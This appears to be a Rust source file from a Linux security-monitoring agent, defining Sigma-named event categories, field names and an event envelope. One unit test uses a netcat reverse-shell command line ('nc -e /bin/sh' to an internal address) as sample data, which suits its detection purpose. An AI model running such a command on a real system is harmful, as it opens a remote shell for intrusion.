//! The event envelope and the categories and field names that Sigma rules rely on.
//!
//! An event is an envelope (`agent_id`, `hostname`, `seq`, `ts`, `category`) plus a flat
//! map of fields named as the Sigma taxonomy names them for Linux. Fields this version does
//! not know are kept in the map and travel on unchanged, so an older collector never drops
//! what a newer agent sends.

use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};

/// The categories of events. Names follow Sigma's `logsource.category`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Category {
    /// A file created, modified, deleted, renamed or whose attributes changed.
    FileEvent,
    /// A process started.
    ProcessCreation,
    /// A network connection or flow.
    NetworkConnection,
    /// A DNS query and its answers.
    DnsQuery,
    /// A socket that starts or stops listening (`Action`: opened, closed).
    ListeningSocket,
    /// Totals of a network flow (packets, bytes, duration), when it ends and every minute.
    NetworkFlow,
    /// What the host is: OS, kernel, CPU, memory, disks, interfaces.
    HostInventory,
    /// How the agent itself is doing: counters, queue depth, drops, own CPU and RSS.
    AgentHealth,
    /// A line of a system log (syslog, auth, audit…); `service` names its Sigma service.
    Log,
    /// A request in a web server's access log (Sigma's `webserver` category).
    Webserver,
    /// A sensitive file opened for reading (Sigma's `file_access` category), or a
    /// process's memory opened by another.
    FileAccess,
}

impl Category {
    /// Every category, in a stable order.
    pub const ALL: [Category; 11] = [
        Category::FileEvent,
        Category::ProcessCreation,
        Category::NetworkConnection,
        Category::DnsQuery,
        Category::ListeningSocket,
        Category::NetworkFlow,
        Category::HostInventory,
        Category::AgentHealth,
        Category::Log,
        Category::Webserver,
        Category::FileAccess,
    ];

    /// The category's name on the wire and in storage.
    pub fn as_str(self) -> &'static str {
        match self {
            Category::FileEvent => "file_event",
            Category::ProcessCreation => "process_creation",
            Category::NetworkConnection => "network_connection",
            Category::DnsQuery => "dns_query",
            Category::ListeningSocket => "listening_socket",
            Category::NetworkFlow => "network_flow",
            Category::HostInventory => "host_inventory",
            Category::AgentHealth => "agent_health",
            Category::Log => "log",
            Category::Webserver => "webserver",
            Category::FileAccess => "file_access",
        }
    }

    /// The category named `name`, if Vigie knows it.
    pub fn parse(name: &str) -> Option<Category> {
        Category::ALL.into_iter().find(|c| c.as_str() == name)
    }
}

/// Field names shared by agent, collector, rules and dashboard.
pub mod field {
    /// Path of the file an event is about.
    pub const TARGET_FILENAME: &str = "TargetFilename";
    /// What happened to the file: see [`super::FileAction`].
    pub const ACTION: &str = "Action";
    /// The file's former path, for a rename.
    pub const PREVIOUS_FILENAME: &str = "PreviousFilename";
    /// SHA-256 of the content before the change.
    pub const OLD_SHA256: &str = "OldSha256";
    /// SHA-256 of the content after the change (or of an executable).
    pub const SHA256: &str = "Sha256";
    /// Size in bytes.
    pub const SIZE: &str = "Size";
    /// Size in bytes before the change.
    pub const OLD_SIZE: &str = "OldSize";
    /// Permission bits, as an octal string such as `0644`.
    pub const MODE: &str = "Mode";
    /// Permission bits before the change.
    pub const OLD_MODE: &str = "OldMode";
    /// Owner's numeric id.
    pub const UID: &str = "Uid";
    /// Owner's numeric id before the change.
    pub const OLD_UID: &str = "OldUid";
    /// Group's numeric id.
    pub const GID: &str = "Gid";
    /// Group's numeric id before the change.
    pub const OLD_GID: &str = "OldGid";
    /// Owner's (or process user's) name.
    pub const USER: &str = "User";
    /// Modification time, milliseconds since the epoch.
    pub const MTIME: &str = "Mtime";
    /// Executable of the process responsible, where known.
    pub const IMAGE: &str = "Image";
    /// The watched path (from the agent's configuration) that covers this file.
    pub const WATCH_PATH: &str = "WatchPath";
    /// Severity the administrator gave to the watched path.
    pub const WATCH_SEVERITY: &str = "WatchSeverity";
    /// How many files a baseline recorded.
    pub const FILES: &str = "Files";
    /// How the agent noticed the change: `realtime`, `rescan` or `startup`.
    pub const DETECTED_BY: &str = "DetectedBy";
    /// Why the content was not hashed (too large, unreadable…), when it was not.
    pub const HASH_SKIPPED: &str = "HashSkipped";
    /// Inode number of the file.
    pub const INODE: &str = "Inode";
    /// For a rename over an existing tracked file: the hash of the file it replaced.
    pub const REPLACED_SHA256: &str = "ReplacedSha256";

    // process events
    /// Process id.
    pub const PROCESS_ID: &str = "ProcessId";
    /// Parent's process id.
    pub const PARENT_PROCESS_ID: &str = "ParentProcessId";
    /// Arguments joined by spaces, as `ps` shows them.
    pub const COMMAND_LINE: &str = "CommandLine";
    /// Working directory.
    pub const CURRENT_DIRECTORY: &str = "CurrentDirectory";
    /// Login user id (audit).
    pub const LOGON_ID: &str = "LogonId";
    /// The parent's program.
    pub const PARENT_IMAGE: &str = "ParentImage";
    /// The parent's command line.
    pub const PARENT_COMMAND_LINE: &str = "ParentCommandLine";
    /// True when the process was gone before it could be read.
    pub const INCOMPLETE: &str = "Incomplete";
    /// What changed in an `attributes_changed` file event: `mode`, `owner`, `group`,
    /// `capabilities`, `xattrs`, `mtime`, comma-separated.
    pub const CHANGED: &str = "Changed";
    /// `directory` on a file event about a folder (absent for files).
    pub const FILE_TYPE: &str = "FileType";
    /// True when a file's modification time went back (timestomping).
    pub const MTIME_BACKWARDS: &str = "MtimeBackwards";
    /// The modification time before the change (ms since the epoch).
    pub const OLD_MTIME: &str = "OldMtime";
    /// File capabilities, `getcap` style (`cap_setuid=ep`).
    pub const CAPABILITIES: &str = "Capabilities";
    /// File capabilities before the change.
    pub const OLD_CAPABILITIES: &str = "OldCapabilities";
    /// SHA-256 over a file's extended attributes.
    pub const XATTR_SHA256: &str = "XattrSha256";
    /// The user of the process behind a file change (`User` is the file's owner).
    pub const PROCESS_USER: &str = "ProcessUser";
    /// True for a file created and deleted before it could be examined.
    pub const TRANSIENT: &str = "Transient";
    /// True when the arguments were longer than the sensor reads (4 KiB) and were cut.
    pub const COMMAND_LINE_TRUNCATED: &str = "CommandLineTruncated";

    /// The package manager (`dpkg`, `rpm`, `apt-get`…) the process runs under, when
    /// it does: installing a package changes accounts and units as an intruder would.
    pub const PACKAGE_MANAGER: &str = "PackageManager";

    // file access events
    /// The sensitive path (from the agent's list) a read file is: the same as
    /// `TargetFilename` unless it was opened through another link.
    pub const SENSITIVE_FILE: &str = "SensitiveFile";
    /// `read` or `read_write`: how the file was opened.
    pub const ACCESS_MODE: &str = "AccessMode";
    /// The process whose memory was opened (`/proc/PID/mem`).
    pub const TARGET_PROCESS_ID: &str = "TargetProcessId";

    // network events
    /// ICMP message type (8: echo request).
    pub const ICMP_TYPE: &str = "IcmpType";
    /// ICMP message code.
    pub const ICMP_CODE: &str = "IcmpCode";
    /// `tcp`, `udp` or `icmp`.
    pub const PROTOCOL: &str = "Protocol";
    /// True when this host opened the connection.
    pub const INITIATED: &str = "Initiated";
    /// Source address.
    pub const SOURCE_IP: &str = "SourceIp";
    /// Source port.
    pub const SOURCE_PORT: &str = "SourcePort";
    /// Destination address.
    pub const DESTINATION_IP: &str = "DestinationIp";
    /// Destination port.
    pub const DESTINATION_PORT: &str = "DestinationPort";
    /// The name a DNS answer gave the destination.
    pub const DESTINATION_HOSTNAME: &str = "DestinationHostname";
    /// Address a socket listens on.
    pub const LOCAL_IP: &str = "LocalIp";
    /// Port a socket listens on.
    pub const LOCAL_PORT: &str = "LocalPort";
    /// Packets in a flow.
    pub const PACKETS: &str = "Packets";
    /// Bytes in a flow.
    pub const BYTES: &str = "Bytes";
    /// Why a flow's totals were sent.
    pub const END_REASON: &str = "EndReason";
    /// The time an agent gave an event, when the collector found it impossible and
    /// stored the event at its receive time instead.
    pub const AGENT_TS: &str = "AgentTs";
    /// True when the event's time came from a clock the collector could not trust.
    pub const CLOCK_SUSPECT: &str = "ClockSuspect";
    /// How long a flow lasted, in milliseconds.
    pub const DURATION_MS: &str = "DurationMs";

    // dns events
    /// The name asked.
    pub const QUERY_NAME: &str = "QueryName";
    /// The record type asked.
    pub const QUERY_TYPE: &str = "QueryType";
    /// The answers, `;`-separated.
    pub const QUERY_RESULTS: &str = "QueryResults";

    // log lines (`log` and `webserver` events)
    /// Sigma's `logsource.service` of a log line: `sshd`, `sudo`, `auth`, `cron`,
    /// `syslog`, `auditd`, `nginx`, `apache`…
    pub const SERVICE: &str = "service";
    /// The log file the line was read from.
    pub const LOG_FILE: &str = "LogFile";
    /// Inode of that file when the line was read (with [`LOG_OFFSET`], where the agent
    /// resumes after a restart).
    pub const LOG_INODE: &str = "LogInode";
    /// Byte offset just past the line in that file.
    pub const LOG_OFFSET: &str = "LogOffset";
    /// The line's own time, as written in it.
    pub const LOG_TIME: &str = "LogTime";
    /// The host name written in the line.
    pub const LOG_HOST: &str = "LogHost";
    /// The program that wrote the line (syslog tag), such as `sshd`.
    pub const PROGRAM: &str = "Program";
    /// The line's message: for syslog, what follows the program; otherwise the line.
    pub const MESSAGE: &str = "Message";
    /// The line's level as written (`error`, `warn`, `crit`…), in web server error logs.
    pub const LOG_LEVEL: &str = "LogLevel";
    /// Apache's code of an error message (`AH00126`).
    pub const ERROR_CODE: &str = "ErrorCode";
    /// True when the line was longer than the agent keeps and was cut.
    pub const LINE_TRUNCATED: &str = "LineTruncated";
    /// `success` or `failure` of a login, a sudo, an account change.
    pub const OUTCOME: &str = "Outcome";
    /// How a login was attempted: `password`, `publickey`, `keyboard-interactive`…
    pub const AUTH_METHOD: &str = "AuthMethod";
    /// The account a login, sudo or account change is for.
    pub const TARGET_USER: &str = "TargetUser";
    /// True when the login named an account that does not exist.
    pub const INVALID_USER: &str = "InvalidUser";
    /// What an account change did: see the log sensor's documentation.
    pub const ACCOUNT_ACTION: &str = "AccountAction";
    /// The group of an account change.
    pub const GROUP: &str = "Group";
    /// Why a login or sudo failed, in the program's words.
    pub const REASON: &str = "Reason";
    /// For a sudo line: the user's groups (local files), comma-separated.
    pub const USER_GROUPS: &str = "UserGroups";
    /// For a sudo line: whether the user is in one of the agent's `admin_groups`.
    pub const ADMIN_GROUP_MEMBER: &str = "AdminGroupMember";
    /// For a web request to a script under a web root: seconds since the script was
    /// written (or its times changed).
    pub const SCRIPT_AGE_SECS: &str = "ScriptAgeSecs";
}

/// The actions a `file_event` reports in its `Action` field.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FileAction {
    /// A new file.
    Created,
    /// The content changed (its SHA-256 differs).
    Modified,
    /// The file is gone.
    Deleted,
    /// The file moved; `PreviousFilename` says from where.
    Renamed,
    /// Mode, owner or group changed, not the content.
    AttributesChanged,
    /// A newly watched path was recorded as it is (`Files` says how many files it
    /// holds): a starting point, not a change. Detectors do not see it.
    Baseline,
}

/// What a person reads for a category written `name` (shown as written when unknown).
pub fn category_label(name: &str, lang: crate::i18n::Lang) -> &str {
    use crate::i18n::Msg;
    let msg = match Category::parse(name) {
        Some(Category::FileEvent) => Msg::CategoryFileEvent,
        Some(Category::ProcessCreation) => Msg::CategoryProcessCreation,
        Some(Category::NetworkConnection) => Msg::CategoryNetworkConnection,
        Some(Category::DnsQuery) => Msg::CategoryDnsQuery,
        Some(Category::ListeningSocket) => Msg::CategoryListeningSocket,
        Some(Category::NetworkFlow) => Msg::CategoryNetworkFlow,
        Some(Category::HostInventory) => Msg::CategoryHostInventory,
        Some(Category::AgentHealth) => Msg::CategoryAgentHealth,
        Some(Category::Log) => Msg::CategoryLog,
        Some(Category::Webserver) => Msg::CategoryWebserver,
        Some(Category::FileAccess) => Msg::CategoryFileAccess,
        None => return name,
    };
    msg.text(lang)
}

/// What a person reads for an event's `Action`: a file action, a listening socket
/// opened or closed; an action this version does not know is shown as written.
pub fn action_label(action: &str, lang: crate::i18n::Lang) -> &str {
    use crate::i18n::Msg;
    let msg = match FileAction::parse(action) {
        Some(a) => a.msg(),
        None => match action {
            "opened" => Msg::ActionOpened,
            "closed" => Msg::ActionClosed,
            other => return other,
        },
    };
    msg.text(lang)
}

impl FileAction {
    /// What a person reads for it.
    pub fn msg(self) -> crate::i18n::Msg {
        use crate::i18n::Msg;
        match self {
            FileAction::Created => Msg::ActionCreated,
            FileAction::Modified => Msg::ActionModified,
            FileAction::Deleted => Msg::ActionDeleted,
            FileAction::Renamed => Msg::ActionRenamed,
            FileAction::AttributesChanged => Msg::ActionAttributesChanged,
            FileAction::Baseline => Msg::ActionBaseline,
        }
    }

    /// The action written `text`, if this version knows it.
    pub fn parse(text: &str) -> Option<FileAction> {
        [
            FileAction::Created,
            FileAction::Modified,
            FileAction::Deleted,
            FileAction::Renamed,
            FileAction::AttributesChanged,
            FileAction::Baseline,
        ]
        .into_iter()
        .find(|a| a.as_str() == text)
    }

    /// The action's name on the wire.
    pub fn as_str(self) -> &'static str {
        match self {
            FileAction::Created => "created",
            FileAction::Modified => "modified",
            FileAction::Deleted => "deleted",
            FileAction::Renamed => "renamed",
            FileAction::AttributesChanged => "attributes_changed",
            FileAction::Baseline => "baseline",
        }
    }
}

/// An event as a sensor produces it, before the agent gives it a place in its sequence.
#[derive(Debug, Clone, PartialEq)]
pub struct EventDraft {
    /// Milliseconds since the epoch, agent clock.
    pub ts: u64,
    /// The event's category.
    pub category: Category,
    /// Sigma-named fields.
    pub fields: Map<String, Value>,
}

impl EventDraft {
    /// A draft of `category` stamped now.
    pub fn now(category: Category) -> EventDraft {
        EventDraft {
            ts: now_ms(),
            category,
            fields: Map::new(),
        }
    }

    /// Sets a field, for building drafts fluently.
    pub fn with(mut self, name: &str, value: impl Into<Value>) -> EventDraft {
        self.fields.insert(name.to_string(), value.into());
        self
    }
}

/// One event: the envelope plus its fields. Unknown fields are kept in `fields`.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Event {
    /// The agent that saw it.
    pub agent_id: String,
    /// The host's name when the agent saw it.
    pub hostname: String,
    /// Per-agent sequence number: strictly increasing, never reused across restarts.
    pub seq: u64,
    /// Milliseconds since the epoch, agent clock.
    pub ts: u64,
    /// The category's name (kept as text so newer categories survive older code).
    pub category: String,
    /// Every other field, Sigma-named. Unknown fields are kept here.
    #[serde(flatten)]
    pub fields: Map<String, Value>,
}

impl Event {
    /// What the event is about, in one line for lists: the file, the command line (or
    /// program), the remote or listening address, or the name asked.
    pub fn subject(&self) -> String {
        let text = |name: &str| self.text_field(name).unwrap_or_default();
        let address = |ip: &str, port: &str| match (text(ip), text(port)) {
            (ip, port) if port.is_empty() => ip,
            (ip, port) if ip.contains(':') => format!("[{ip}]:{port}"),
            (ip, port) => format!("{ip}:{port}"),
        };
        let first = |names: &[String]| {
            names
                .iter()
                .find(|s| !s.is_empty())
                .cloned()
                .unwrap_or_default()
        };
        match self.category.as_str() {
            "process_creation" => first(&[text(field::COMMAND_LINE), text(field::IMAGE)]),
            "network_connection" => {
                let remote = if self.fields.get(field::INITIATED) == Some(&Value::Bool(false)) {
                    address(field::SOURCE_IP, field::SOURCE_PORT)
                } else {
                    address(field::DESTINATION_IP, field::DESTINATION_PORT)
                };
                match text(field::DESTINATION_HOSTNAME) {
                    name if name.is_empty() => remote,
                    name => format!("{remote} ({name})"),
                }
            }
            "listening_socket" => address(field::LOCAL_IP, field::LOCAL_PORT),
            "dns_query" => text(field::QUERY_NAME),
            "log" => text(field::MESSAGE),
            "webserver" => {
                let query = text("cs-uri-query");
                let uri = match query.as_str() {
                    "" | "-" => text("cs-uri-stem"),
                    q => format!("{}?{q}", text("cs-uri-stem")),
                };
                format!("{} {} {uri}", text("c-ip"), text("cs-method"))
            }
            _ => first(&[text(field::TARGET_FILENAME), text(field::IMAGE)]),
        }
    }

    /// The field `name` as text, if it is a string.
    pub fn str_field(&self, name: &str) -> Option<&str> {
        self.fields.get(name).and_then(Value::as_str)
    }

    /// The field `name` as text whatever its JSON type (numbers and booleans are written
    /// out), as Sigma rules compare them.
    pub fn text_field(&self, name: &str) -> Option<String> {
        match name {
            "agent_id" => return Some(self.agent_id.clone()),
            "hostname" => return Some(self.hostname.clone()),
            "category" => return Some(self.category.clone()),
            _ => {}
        }
        match self.fields.get(name)? {
            Value::String(s) => Some(s.clone()),
            Value::Null => None,
            other => Some(other.to_string()),
        }
    }
}

/// Milliseconds since the Unix epoch, now.
pub fn now_ms() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.as_millis() as u64)
        .unwrap_or(0)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn unknown_fields_survive_a_round_trip() {
        let text = r#"{"agent_id":"a1","hostname":"h","seq":7,"ts":1,"category":"file_event",
            "TargetFilename":"/etc/passwd","FutureField":{"nested":[1,2]}}"#;
        let event: Event = serde_json::from_str(text).unwrap();
        assert_eq!(event.str_field("TargetFilename"), Some("/etc/passwd"));
        let again: Event = serde_json::from_str(&serde_json::to_string(&event).unwrap()).unwrap();
        assert_eq!(again.fields["FutureField"]["nested"][1], 2);
        assert_eq!(again, event);
    }

    #[test]
    fn the_subject_says_what_each_kind_of_event_is_about() {
        let subject = |category: &str, fields: Value| {
            let mut event: Event = serde_json::from_value(fields).unwrap();
            event.category = category.into();
            event.subject()
        };
        let base = |more: Value| {
            let mut v = serde_json::json!({"agent_id": "a", "hostname": "h", "seq": 1, "ts": 1,
                "category": "x"});
            v.as_object_mut()
                .unwrap()
                .extend(more.as_object().unwrap().clone());
            v
        };
        assert_eq!(
            subject(
                "process_creation",
                base(
                    serde_json::json!({"Image": "/bin/nc", "CommandLine": "nc -e /bin/sh 10.0.0.9 4444"})
                )
            ),
            "nc -e /bin/sh 10.0.0.9 4444"
        );
        assert_eq!(
            subject(
                "process_creation",
                base(serde_json::json!({"Image": "/bin/true", "Incomplete": true}))
            ),
            "/bin/true"
        );
        assert_eq!(
            subject(
                "network_connection",
                base(serde_json::json!({"Initiated": true,
                "DestinationIp": "2001:db8::1", "DestinationPort": 443, "DestinationHostname": "x.example"}))
            ),
            "[2001:db8::1]:443 (x.example)"
        );
        assert_eq!(
            subject(
                "network_connection",
                base(serde_json::json!({"Initiated": false,
                "SourceIp": "203.0.113.7", "SourcePort": 51000, "DestinationIp": "10.0.0.1", "DestinationPort": 22}))
            ),
            "203.0.113.7:51000"
        );
        assert_eq!(
            subject(
                "listening_socket",
                base(serde_json::json!({"LocalIp": "0.0.0.0", "LocalPort": 31337}))
            ),
            "0.0.0.0:31337"
        );
        assert_eq!(
            subject(
                "file_event",
                base(serde_json::json!({"TargetFilename": "/etc/shadow"}))
            ),
            "/etc/shadow"
        );
    }

    #[test]
    fn categories_round_trip_by_name() {
        for c in Category::ALL {
            assert_eq!(Category::parse(c.as_str()), Some(c));
        }
        assert_eq!(Category::parse("nope"), None);
    }
}
